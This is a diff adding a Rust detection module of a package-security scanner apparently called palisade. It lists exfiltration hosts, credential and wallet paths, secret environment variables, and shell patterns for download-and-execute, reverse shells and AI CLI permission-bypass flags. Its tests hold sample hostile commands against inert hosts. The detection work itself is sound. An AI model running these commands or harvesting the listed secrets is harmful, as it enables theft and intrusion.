@@ -1,0 +1,512 @@
+//! Classification tables: network destinations, sensitive paths, secret
+//! environment variables, commands. Shared by every checker and rule.
+
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
+
+use palisade_diagnostics::HostKind;
+
+/// Services whose only common use in package code is receiving data from
+/// someone else's machine, by class. Matched as host suffixes.
+const COLLECTORS: &[(&str, &str)] = &[
+    // Request inspectors / webhook catchers.
+    ("webhook.site", "webhook-collector"),
+    ("pipedream.net", "webhook-collector"),
+    ("requestbin.net", "webhook-collector"),
+    ("requestbin.com", "webhook-collector"),
+    ("requestcatcher.com", "webhook-collector"),
+    ("beeceptor.com", "webhook-collector"),
+    ("hookbin.com", "webhook-collector"),
+    ("postb.in", "webhook-collector"),
+    ("ptsv2.com", "webhook-collector"),
+    ("ptsv3.com", "webhook-collector"),
+    ("mockbin.org", "webhook-collector"),
+    ("requestrepo.com", "webhook-collector"),
+    ("webhook.cool", "webhook-collector"),
+    ("typedwebhook.tools", "webhook-collector"),
+    ("eo2.xyz", "webhook-collector"),
+    // Out-of-band interaction testing (OAST) and DNS loggers.
+    ("burpcollaborator.net", "oast"),
+    ("oastify.com", "oast"),
+    ("interact.sh", "oast"),
+    ("interactsh.com", "oast"),
+    ("oast.fun", "oast"),
+    ("oast.pro", "oast"),
+    ("oast.live", "oast"),
+    ("oast.site", "oast"),
+    ("oast.online", "oast"),
+    ("oast.me", "oast"),
+    ("canarytokens.com", "oast"),
+    ("dnslog.cn", "oast"),
+    ("ceye.io", "oast"),
+    ("dnslog.link", "oast"),
+    ("bxss.me", "oast"),
+    ("xss.ht", "oast"),
+    ("pingb.in", "oast"),
+    ("dnsbin.zhack.ca", "oast"),
+    ("r87.me", "oast"),
+    // Tunnels to a machine at home.
+    ("ngrok.io", "tunnel"),
+    ("ngrok-free.app", "tunnel"),
+    ("ngrok.app", "tunnel"),
+    ("ngrok-free.dev", "tunnel"),
+    ("trycloudflare.com", "tunnel"),
+    ("serveo.net", "tunnel"),
+    ("localtunnel.me", "tunnel"),
+    ("loca.lt", "tunnel"),
+    ("localhost.run", "tunnel"),
+    ("lhr.life", "tunnel"),
+    ("pagekite.me", "tunnel"),
+    ("portmap.io", "tunnel"),
+    ("bore.pub", "tunnel"),
+    // Paste and anonymous file drops.
+    ("pastebin.com", "paste"),
+    ("paste.ee", "paste"),
+    ("hastebin.com", "paste"),
+    ("ghostbin.com", "paste"),
+    ("transfer.sh", "paste"),
+    ("file.io", "paste"),
+    ("0x0.st", "paste"),
+    ("termbin.com", "paste"),
+    ("rentry.co", "paste"),
+    ("anonfiles.com", "paste"),
+    ("gofile.io", "paste"),
+];
+
+/// Chat services with incoming-webhook URLs: legitimate integrations use
+/// them too, so they weigh less than [`COLLECTORS`].
+const CHAT_WEBHOOKS: &[(&str, &str)] = &[
+    ("discord.com", "/api/webhooks"),
+    ("discordapp.com", "/api/webhooks"),
+    ("api.telegram.org", "/bot"),
+    ("hooks.slack.com", "/services"),
+];
+
+/// A destination named in code, parsed.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Destination {
+    /// The URL or host as written (after constant propagation).
+    pub raw: String,
+    pub host: String,
+    pub kind: HostKind,
+    pub collector: Option<&'static str>,
+}
+
+/// Parses a URL (`scheme://host...`) or a bare host or IP. Unknown parts from
+/// constant propagation are `*`.
+pub fn destination(s: &str) -> Option<Destination> {
+    let s = s.trim();
+    if s.len() > 2048 || s.is_empty() {
+        return None;
+    }
+    let lower = s.to_ascii_lowercase();
+    let (rest, had_scheme) = match lower.find("://") {
+        Some(i) => {
+            let scheme = &lower[..i];
+            if !matches!(scheme, "http" | "https" | "ws" | "wss" | "ftp" | "tcp" | "udp") {
+                return None;
+            }
+            (&lower[i + 3..], true)
+        }
+        None => (lower.as_str(), false),
+    };
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
+    let authority = authority.rsplit('@').next().unwrap_or(authority);
+    let host = if let Some(v6) = authority.strip_prefix('[') {
+        v6.split(']').next().unwrap_or("")
+    } else {
+        authority.split(':').next().unwrap_or("")
+    };
+    let host = host.trim_end_matches('.');
+    if host.is_empty() || host.contains(char::is_whitespace) {
+        return None;
+    }
+    // A computed leading label (`${os.hostname()}.x.invalid`) still names
+    // the domain under it.
+    let host = if host.starts_with('*') {
+        let rest = host.trim_start_matches(|c| c == '*' || c == '.');
+        if !rest.contains('.') || rest.contains('*') {
+            return None;
+        }
+        rest
+    } else {
+        host
+    };
+    let kind = if let Ok(ip) = host.parse::<IpAddr>() {
+        ip_kind(ip)
+    } else if is_domain(host) {
+        if matches!(host, "localhost") || host.ends_with(".localhost") {
+            HostKind::Loopback
+        } else {
+            HostKind::Domain
+        }
+    } else {
+        return None;
+    };
+    // A bare word is only a destination when it is an IP or has a dot and a
+    // known suffix shape; URLs need a host with a dot or an IP.
+    if kind == HostKind::Domain && !host.contains('.') {
+        return None;
+    }
+    if !had_scheme && kind == HostKind::Domain && (host.contains('*') || !plausible_tld(host)) {
+        return None;
+    }
+    let mut collector = collector_of(host);
+    if collector.is_none() {
+        let path = &rest[authority.len().min(rest.len())..];
+        for (h, p) in CHAT_WEBHOOKS {
+            if (host == *h || host.ends_with(&format!(".{h}"))) && path.starts_with(p) {
+                collector = Some("chat-webhook");
+            }
+        }
+    }
+    if collector.is_none() && matches!(kind, HostKind::Ipv4 | HostKind::Ipv6) {
+        collector = Some("raw-ip");
+    }
+    Some(Destination {
+        raw: s.to_owned(),
+        host: host.to_owned(),
+        kind,
+        collector,
+    })
+}
+
+fn ip_kind(ip: IpAddr) -> HostKind {
+    match ip {
+        IpAddr::V4(v4) if v4.is_loopback() || v4.is_unspecified() => HostKind::Loopback,
+        IpAddr::V4(v4) if is_private_v4(v4) => HostKind::PrivateIp,
+        IpAddr::V4(_) => HostKind::Ipv4,
+        IpAddr::V6(v6) if v6.is_loopback() || v6.is_unspecified() => HostKind::Loopback,
+        IpAddr::V6(v6) if is_private_v6(v6) => HostKind::PrivateIp,
+        IpAddr::V6(_) => HostKind::Ipv6,
+    }
+}
+
+/// Private, link-local and reserved ranges. The documentation ranges of
+/// RFC 5737 (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) are deliberately
+/// treated as public: they are never routed, which makes them the IP
+/// equivalent of `.invalid` for inert test fixtures.
+fn is_private_v4(ip: Ipv4Addr) -> bool {
+    ip.is_private()
+        || ip.is_link_local()
+        || ip.is_broadcast()
+        || ip.octets()[0] == 0
+        || (ip.octets()[0] == 100 && (64..128).contains(&ip.octets()[1]))
+        || ip.octets()[0] >= 224
+}
+
+fn is_private_v6(ip: Ipv6Addr) -> bool {
+    let s = ip.segments();
+    (s[0] & 0xfe00) == 0xfc00 || (s[0] & 0xffc0) == 0xfe80 || s[0] == 0x2001 && s[1] == 0xdb8
+}
+
+fn is_domain(host: &str) -> bool {
+    host.len() <= 253
+        && host
+            .split('.')
+            .all(|l| !l.is_empty() && l.len() <= 63 && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'*'))
+}
+
+/// A bare (scheme-less) host must end in a TLD-looking label: letters only,
+/// 2 to 24 long, and not a file extension commonly seen in code.
+fn plausible_tld(host: &str) -> bool {
+    let tld = host.rsplit('.').next().unwrap_or("");
+    (2..=24).contains(&tld.len())
+        && tld.bytes().all(|b| b.is_ascii_lowercase())
+        && !matches!(
+            tld,
+            "js" | "ts" | "json" | "md" | "css" | "html" | "map" | "mjs" | "cjs" | "jsx" | "tsx"
+                | "txt" | "png" | "svg" | "jpg" | "gif" | "yml" | "yaml" | "lock" | "node"
+                | "exe" | "sh" | "py" | "log" | "min" | "prototype" | "length" | "call"
+                | "apply" | "bind" | "then" | "default" | "exports" | "value" | "name"
+                | "type" | "data" | "id" | "env" | "config" | "test" | "spec" | "d"
+        )
+}
+
+/// The collection-service class of a host, if any.
+pub fn collector_of(host: &str) -> Option<&'static str> {
+    COLLECTORS
+        .iter()
+        .find(|(suffix, _)| host == *suffix || host.strip_suffix(suffix).is_some_and(|p| p.ends_with('.')))
+        .map(|(_, class)| *class)
+}
+
+/// Hosts that are placeholders in documentation and tests.
+pub fn is_placeholder_host(host: &str) -> bool {
+    let ends = |s: &str| host == s || host.ends_with(&format!(".{s}"));
+    ends("example.com")
+        || ends("example.org")
+        || ends("example.net")
+        || ends("example")
+        || ends("test")
+        || ends("localhost")
+        || ends("local")
+        || ends("internal")
+}
+
+/// Sensitive path categories, matched on a lower-cased, `/`-separated path.
+/// The second element is `true` for secrets (credentials, keys, wallets,
+/// browser data), `false` for places where writing means persistence or
+/// tampering.
+const PATHS: &[(&str, &str, bool)] = &[
+    (".ssh/id_", "ssh", true),
+    (".ssh/identity", "ssh", true),
+    (".ssh/authorized_keys", "ssh", false),
+    (".ssh/known_hosts", "ssh", true),
+    (".ssh/config", "ssh", true),
+    (".aws/credentials", "aws", true),
+    (".aws/config", "aws", true),
+    (".npmrc", "npmrc", true),
+    (".yarnrc", "npmrc", true),
+    (".pypirc", "pypirc", true),
+    (".git-credentials", "git-credentials", true),
+    (".docker/config.json", "docker", true),
+    (".kube/config", "kube", true),
+    (".config/gcloud", "cloud-cli", true),
+    ("application_default_credentials.json", "cloud-cli", true),
+    (".azure/", "cloud-cli", true),
+    (".config/gh/hosts.yml", "cloud-cli", true),
+    (".netrc", "netrc", true),
+    (".bash_history", "shell-history", true),
+    (".zsh_history", "shell-history", true),
+    ("/etc/shadow", "system", true),
+    ("/etc/passwd", "system", true),
+    ("login data", "browser-profile", true),
+    ("/default/cookies", "browser-profile", true),
+    ("/default/network/cookies", "browser-profile", true),
+    ("cookies.sqlite", "browser-profile", true),
+    ("local storage/leveldb", "browser-profile", true),
+    ("google/chrome/user data", "browser-profile", true),
+    ("bravesoftware/brave-browser", "browser-profile", true),
+    ("mozilla/firefox/profiles", "browser-profile", true),
+    ("key4.db", "browser-profile", true),
+    ("logins.json", "browser-profile", true),
+    ("discord/local storage", "discord", true),
+    ("discordcanary", "discord", true),
+    ("discordptb", "discord", true),
+    ("lightcord", "discord", true),
+    ("exodus.wallet", "wallet", true),
+    ("exodus/exodus", "wallet", true),
+    ("electrum/wallets", "wallet", true),
+    ("wallet.dat", "wallet", true),
+    (".config/solana/id.json", "wallet", true),
+    ("ethereum/keystore", "wallet", true),
+    ("nkbihfbeogaeaoehlefnkodbefgpgknn", "wallet", true),
+    ("bfnaelmomeimhlpmgjnjophhpkkoljpa", "wallet", true),
+    ("claude_desktop_config.json", "ai-client-config", false),
+    (".claude.json", "ai-client-config", false),
+    (".claude/settings", "ai-client-config", false),
+    (".cursor/mcp.json", "ai-client-config", false),
+    ("windsurf/mcp_config.json", "ai-client-config", false),
+    (".gemini/settings.json", "ai-client-config", false),
+    (".codex/config.toml", "ai-client-config", false),
+    (".vscode/mcp.json", "ai-client-config", false),
+    ("cline_mcp_settings.json", "ai-client-config", false),
+    (".continue/config", "ai-client-config", false),
+    (".bashrc", "shell-rc", false),
+    (".zshrc", "shell-rc", false),
+    (".bash_profile", "shell-rc", false),
+    (".zprofile", "shell-rc", false),
+    ("/.profile", "shell-rc", false),
+    ("config.fish", "shell-rc", false),
+    ("/etc/cron", "crontab", false),
+    ("/var/spool/cron", "crontab", false),
+    ("library/launchagents", "crontab", false),
+    (".config/autostart", "crontab", false),
+    (".config/systemd/user", "crontab", false),
+    ("start menu/programs/startup", "crontab", false),
+    ("currentversion\\run", "crontab", false),
+    (".github/workflows/", "ci-workflow", false),
+    (".git/hooks/", "git-hook", false),
+];
+
+/// Classifies a path. Returns `(category, is_secret)`.
+pub fn sensitive_path(path: &str) -> Option<(&'static str, bool)> {
+    if path.len() > 1024 {
+        return None;
+    }
+    let p = path.to_ascii_lowercase().replace('\\', "/");
+    // `.npmrc` in a package's own folder is configuration, not a secret,
+    // unless it is the user's (home) file.
+    PATHS
+        .iter()
+        .find(|(needle, _, _)| {
+            let needle = needle.replace('\\', "/");
+            p.contains(&needle) || (needle.starts_with('.') && p == needle.trim_end_matches('/'))
+        })
+        .map(|(_, cat, secret)| (*cat, *secret))
+}
+
+/// Environment variables that hold credentials by convention.
+pub fn is_secret_env(name: &str) -> bool {
+    let n = name.to_ascii_uppercase();
+    const EXACT: &[&str] = &[
+        "NPM_TOKEN",
+        "NODE_AUTH_TOKEN",
+        "GITHUB_TOKEN",
+        "GH_TOKEN",
+        "AWS_ACCESS_KEY_ID",
+        "AWS_SECRET_ACCESS_KEY",
+        "AWS_SESSION_TOKEN",
+        "NPM_CONFIG__AUTHTOKEN",
+    ];
+    EXACT.contains(&n.as_str())
+        || n.ends_with("_TOKEN")
+        || n.ends_with("_SECRET")
+        || n.ends_with("_API_KEY")
+        || n.ends_with("_PASSWORD")
+        || n.ends_with("_PAT")
+        || n.contains("PRIVATE_KEY")
+}
+
+/// Tokens that let someone publish packages or push code: stealing these is
+/// how a worm spreads.
+pub fn is_publish_token_env(name: &str) -> bool {
+    matches!(
+        name.to_ascii_uppercase().as_str(),
+        "NPM_TOKEN" | "NODE_AUTH_TOKEN" | "NPM_CONFIG__AUTHTOKEN" | "GITHUB_TOKEN" | "GH_TOKEN"
+    )
+}
+
+/// What a shell command does, as far as palisade cares.
+#[derive(Debug, Default, Clone, PartialEq, Eq)]
+pub struct CommandTraits {
+    /// Downloads something and runs it (`curl … | sh`, `wget -O x && ./x`,
+    /// PowerShell `iwr | iex`).
+    pub download_exec: bool,
+    /// Downloads something (curl, wget, Invoke-WebRequest...).
+    pub downloads: bool,
+    /// Decodes an encoded payload (`base64 -d`, `-EncodedCommand`).
+    pub decodes: bool,
+    /// Dumps the environment (`env`, `printenv`, `set`).
+    pub env_dump: bool,
+    /// A reverse shell shape (`/dev/tcp/`, `nc -e`, `bash -i >&`).
+    pub reverse_shell: bool,
+    /// Runs an AI coding CLI with its permission prompts disabled.
+    pub ai_cli_bypass: bool,
+    /// `npm publish`.
+    pub npm_publish: bool,
+    /// Runs inline code: `node -e`, `python -c`.
+    pub inline_code: Option<String>,
+}
+
+/// Classifies a shell command line.
+pub fn command_traits(cmd: &str) -> CommandTraits {
+    let lower = cmd.to_ascii_lowercase();
+    let mut t = CommandTraits::default();
+    let has_word = |w: &str| {
+        lower
+            .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '`' | '"' | '\''))
+            .any(|tok| tok == w || tok.rsplit('/').next() == Some(w))
+    };
+    t.downloads = has_word("curl")
+        || has_word("wget")
+        || lower.contains("invoke-webrequest")
+        || has_word("iwr")
+        || lower.contains("downloadstring")
+        || lower.contains("downloadfile")
+        || lower.contains("start-bitstransfer")
+        || has_word("certutil") && lower.contains("urlcache");
+    let pipes_to_shell = ["| sh", "|sh", "| bash", "|bash", "| zsh", "| node", "|node", "| python", "|python", "| iex", "|iex", "| invoke-expression"]
+        .iter()
+        .any(|p| lower.contains(p));
+    let runs_download = lower.contains("chmod +x") || lower.contains("&& ./") || lower.contains("; ./") || lower.contains("start-process");
+    t.download_exec = t.downloads && (pipes_to_shell || runs_download || lower.contains("iex(") || lower.contains("iex ("))
+        || lower.contains("downloadstring") && lower.contains("iex")
+        || (has_word("bash") || has_word("sh")) && (lower.contains("<(curl") || lower.contains("$(curl") || lower.contains("<(wget") || lower.contains("$(wget"));
+    t.decodes = lower.contains("base64 -d")
+        || lower.contains("base64 --decode")
+        || lower.contains("-encodedcommand")
+        || has_word("-enc")
+        || lower.contains("frombase64string")
+        || lower.contains("xxd -r");
+    t.env_dump = has_word("printenv") || lower.trim() == "env" || lower.contains("env |") || lower.contains("env>") || lower.contains("env >") || lower.contains("$(env)") || lower.contains("`env`");
+    t.reverse_shell = lower.contains("/dev/tcp/")
+        || lower.contains("/dev/udp/")
+        || (has_word("nc") || has_word("ncat") || has_word("netcat")) && (lower.contains(" -e ") || lower.contains(" -c "))
+        || lower.contains("bash -i >&")
+        || lower.contains("sh -i >&")
+        || lower.contains("mkfifo") && has_word("nc");
+    let ai_cli = has_word("claude") || has_word("gemini") || has_word("q") || has_word("codex") || has_word("cursor-agent") || has_word("amp");
+    t.ai_cli_bypass = ai_cli
+        && (lower.contains("--dangerously-skip-permissions")
+            || lower.contains("--yolo")
+            || lower.contains("--trust-all-tools")
+            || lower.contains("--dangerously-bypass-approvals")
+            || lower.contains("--full-auto")
+            || lower.contains("--allow-all-tools"));
+    t.npm_publish = lower.contains("npm publish") || lower.contains("npm  publish");
+    for flag in ["node -e ", "node --eval ", "node -p ", "node --print ", "nodejs -e "] {
+        if let Some(i) = lower.find(flag) {
+            t.inline_code = Some(unquote(cmd[i + flag.len()..].trim()));
+        }
+    }
+    t
+}
+
+fn unquote(s: &str) -> String {
+    let s = s.trim();
+    for q in ['"', '\''] {
+        if let Some(rest) = s.strip_prefix(q) {
+            let end = rest.rfind(q).unwrap_or(rest.len());
+            return rest[..end].replace("\\\"", "\"");
+        }
+    }
+    s.to_owned()
+}
+
+/// AI coding CLIs, by executable name.
+pub fn is_ai_cli(exe: &str) -> bool {
+    matches!(exe, "claude" | "gemini" | "q" | "codex" | "cursor-agent" | "amp" | "aider" | "kiro")
+}
+
+/// Flags that switch off an AI CLI's permission prompts.
+pub fn is_ai_bypass_flag(flag: &str) -> bool {
+    matches!(
+        flag,
+        "--dangerously-skip-permissions" | "--yolo" | "--trust-all-tools" | "--dangerously-bypass-approvals-and-sandbox" | "--full-auto" | "--allow-all-tools" | "-y"
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn destinations() {
+        let d = destination("https://abc.m.pipedream.net/x").expect("parses");
+        assert_eq!(d.host, "abc.m.pipedream.net");
+        assert_eq!(d.collector, Some("webhook-collector"));
+        let d = destination("http://45.9.1.2:8080/a").expect("parses");
+        assert_eq!(d.kind, HostKind::Ipv4);
+        assert_eq!(d.collector, Some("raw-ip"));
+        assert_eq!(destination("http://127.0.0.1/").map(|d| d.kind), Some(HostKind::Loopback));
+        assert_eq!(destination("10.0.0.1").map(|d| d.kind), Some(HostKind::PrivateIp));
+        assert!(destination("index.js").is_none());
+        assert!(destination("a.b.length").is_none());
+        assert!(destination("hello world").is_none());
+        let d = destination("https://discord.com/api/webhooks/1/abc").expect("parses");
+        assert_eq!(d.collector, Some("chat-webhook"));
+        assert_eq!(destination("https://discord.com/app").and_then(|d| d.collector), None);
+        assert_eq!(destination("notpipedream.net").and_then(|d| d.collector), None);
+    }
+
+    #[test]
+    fn paths() {
+        assert_eq!(sensitive_path("~/.ssh/id_rsa"), Some(("ssh", true)));
+        assert_eq!(sensitive_path("/home/u/.AWS/credentials"), Some(("aws", true)));
+        assert_eq!(sensitive_path("~/.bashrc"), Some(("shell-rc", false)));
+        assert_eq!(sensitive_path("lib/index.js"), None);
+    }
+
+    #[test]
+    fn commands() {
+        assert!(command_traits("curl -s http://x.invalid/a.sh | sh").download_exec);
+        assert!(command_traits("wget http://x.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a").download_exec);
+        assert!(!command_traits("node-gyp rebuild").downloads);
+        assert!(!command_traits("node scripts/postinstall.js").download_exec);
+        assert!(command_traits("bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'").reverse_shell);
+        assert!(command_traits("claude --dangerously-skip-permissions -p 'x'").ai_cli_bypass);
+        assert_eq!(command_traits("node -e \"console.log(1)\"").inline_code.as_deref(), Some("console.log(1)"));
+        assert!(command_traits("printenv | curl -d @- http://x.invalid").env_dump);
+    }
+}
